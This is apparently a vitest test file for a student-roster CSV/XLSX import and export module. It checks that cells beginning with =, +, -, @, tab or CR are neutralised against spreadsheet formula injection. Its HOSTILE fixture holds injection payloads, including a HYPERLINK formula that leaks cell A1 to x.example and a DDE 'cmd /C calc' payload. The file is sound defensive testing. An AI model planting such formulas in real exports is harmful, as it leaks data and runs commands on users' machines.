import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { SAMPLE_COLUMNS, sampleStudents } from '../../../test/fixtures/import/sample-students.ts';
import { text } from './cell-parsers.ts';
import { column } from './column-definition.ts';
import { importLimits } from './import-limits.ts';
import { neutraliseFormula } from './neutralise-formula.ts';
import { readTable } from './read-table.ts';
import { validateRows } from './validate-rows.ts';
import { writeCsv } from './write-csv.ts';
import { writeXlsx } from './write-xlsx.ts';

const NOTE = [
  column({ key: 'note', labels: { ja: '備考', mn: 'Тэмдэглэл', en: 'Note' }, required: false, parse: text() }),
  column({ key: 'n', labels: { ja: '数', mn: 'Тоо', en: 'Number' }, required: false, parse: text() }),
] as const;
const HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1)', '\tlead tab', '\rlead cr', '＝１＋１', 'fine', 'a=b', ' =not first'];

describe('formula neutralisation (OWASP CSV injection)', () => {
  it('prefixes text starting with = + - @ tab CR (and full-width = + - @) with an apostrophe, and nothing else', () => {
    expect(HOSTILE.map(neutraliseFormula)).toEqual([...HOSTILE.slice(0, 7).map((t) => `'${t}`), 'fine', 'a=b', ' =not first']);
  });

  it('neutralises every text cell of a CSV export, but not numbers', () => {
    const csv = writeCsv(NOTE, HOSTILE.map((note, i) => ({ note, n: -i })), { language: 'en' }).toString('utf8');
    const lines = csv.slice(1).split('\r\n');
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://x.example/?""&A1,""click"")",0`);
    expect(lines[3]).toBe(`'-2+3,-2`);
    expect(lines[5]).toBe(`"'\tlead tab",-4`);
  });

  it('neutralises every text cell of an XLSX export', async () => {
    const bytes = await writeXlsx(NOTE, HOSTILE.map((note) => ({ note })), { language: 'en' });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    const values = workbook.worksheets[0]!.getColumn(1).values.slice(2);
    // XML turns the CR of a cell into LF when read back.
    expect(values).toEqual(HOSTILE.map(neutraliseFormula).map((t) => t.replace('\r', '\n')));
    workbook.worksheets[0]!.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
  });

  it('round-trips hostile text through an export and an import unchanged', async () => {
    for (const bytes of [writeCsv(NOTE, HOSTILE.map((note) => ({ note })), { language: 'ja' }), await writeXlsx(NOTE, HOSTILE.map((note) => ({ note })), { language: 'ja' })]) {
      const result = validateRows(await readTable(bytes, importLimits()), NOTE);
      // Cells are trimmed on import (before and after the apostrophe goes): tab, CR and space go.
      expect(result.ok && result.rows.map((r) => r.values.note)).toEqual(HOSTILE.map((t) => t.trim()));
    }
  });
});

describe('exports and templates', () => {
  it('writes CSV as UTF-8 with a BOM and CRLF, the header in the requested language', () => {
    for (const language of ['ja', 'mn', 'en'] as const) {
      const template = writeCsv(SAMPLE_COLUMNS, [], { language });
      expect([...template.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      expect(template.toString('utf8').slice(1)).toBe(`${SAMPLE_COLUMNS.map((c) => c.labels[language]).join(',')}\r\n`);
    }
  });

  it('an XLSX template has the header only, bold and frozen', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await writeXlsx(SAMPLE_COLUMNS, [], { language: 'ja' })) as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.rowCount).toBe(1);
    expect(sheet.getRow(1).getCell(1).value).toBe('学籍番号');
    expect(sheet.getRow(1).font?.bold).toBe(true);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
  });

  it('a filled template in any language imports back to the same rows (CSV and XLSX)', async () => {
    const students = sampleStudents(30);
    for (const language of ['ja', 'mn', 'en'] as const) {
      for (const bytes of [writeCsv(SAMPLE_COLUMNS, students, { language }), await writeXlsx(SAMPLE_COLUMNS, students, { language })]) {
        const result = validateRows(await readTable(bytes, importLimits()), SAMPLE_COLUMNS, { naturalKey: ['studentNumber'] });
        expect(result.ok && result.rows.map((r) => r.values)).toEqual(students);
      }
    }
  });

  it('writes dates as dates', async () => {
    const DATE = [column({ key: 'd', labels: { ja: '日', mn: 'Өдөр', en: 'Day' }, required: true, parse: text(), format: (v: string) => new Date(`${v}T00:00:00Z`) })] as const;
    expect(writeCsv(DATE, [{ d: '2025-08-19' }], { language: 'en' }).toString('utf8')).toBe('\uFEFFDay\r\n2025-08-19\r\n');
    const table = await readTable(await writeXlsx(DATE, [{ d: '2025-08-19' }], { language: 'en' }), importLimits());
    expect(table.rows[0]!.cells).toEqual(['2025-08-19']);
  });
});
